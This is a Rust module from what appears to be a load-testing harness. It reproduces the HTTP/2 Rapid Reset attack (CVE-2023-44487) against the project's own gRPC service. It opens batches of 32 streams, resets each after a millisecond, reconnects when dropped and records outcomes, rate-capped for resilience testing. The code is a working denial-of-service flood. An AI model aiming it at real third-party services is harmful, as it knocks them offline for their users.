//! Opens streams and resets them.

use std::sync::Arc;
use std::time::Duration;

use spillway_api::v1;
use spillway_client::{CallError, Client};
use tokio::sync::mpsc;
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep, timeout};
use tokio_stream::wrappers::ReceiverStream;
use tonic::Request;

use super::{About, Cohort};
use crate::stats::{Operation, Outcome};
use crate::workload::{World, outcome};

pub(super) const ABOUT: About = About {
    name: "rst-stream-flood",
    operation: Operation("rst_stream_flood_open"),
    verb: "open",
    summary: "opens streams and resets them at once",
    does: "Opens 32 session streams at a time on one connection, and resets each after a millisecond, whether it was answered or not. When the \
           service ends the connection, it makes another. Done means opened and reset.",
    who: "The Rapid Reset attacks of August 2023; and, in good faith, apps that cancel what a screen began when it is left.",
    source: "CVE-2023-44487",
    ceiling: "1,000 streams a second of the whole cohort, on one connection for each member",
};

/// Streams, of the whole cohort.
pub(super) const PER_S_MAX: f64 = 1_000.0;
const AT_ONCE: usize = 32;
const RESET_AFTER: Duration = Duration::from_millis(1);
/// After the service has ended the connection.
const PAUSE: Duration = Duration::from_millis(200);

/// Goes on until the load is over.
pub(super) async fn act(world: &Arc<World>) {
    while !world.is_closing() {
        if let Ok(client) = world.connect().await {
            while !world.is_closing() && flood(world, &client).await {}
        }
        sleep(PAUSE).await;
    }
}

/// One handful of streams. False when one of them could not be opened.
async fn flood(world: &Arc<World>, client: &Client) -> bool {
    let mut streams = JoinSet::new();
    for _ in 0..AT_ONCE {
        world.crowd.turn(Cohort::RstStreamFlood).await;
        // The handful may have begun before the end.
        if world.is_closing() {
            break;
        }
        world.crowd.tally(Cohort::RstStreamFlood).attempt(0);
        let (client, timer) = (client.clone(), world.stats().start(ABOUT.operation, Instant::now()));
        streams.spawn(async move {
            // Stays open from this side, so that it is a reset that ends the stream.
            let (_up, frames) = mpsc::channel::<v1::SessionRequest>(1);
            let mut calls = client.messages();
            let opened = timeout(RESET_AFTER, calls.session(Request::new(ReceiverStream::new(frames)))).await;
            let outcome = match opened {
                Ok(Err(status)) => outcome::of(&CallError::from(status)),
                // Both are reset here, by being dropped.
                Ok(Ok(_)) | Err(_) => Outcome::Ok,
            };
            timer.finish(outcome);
            outcome == Outcome::Ok
        });
    }
    let mut all = true;
    while let Some(opened) = streams.join_next().await {
        all &= opened.unwrap_or(false);
    }
    all
}
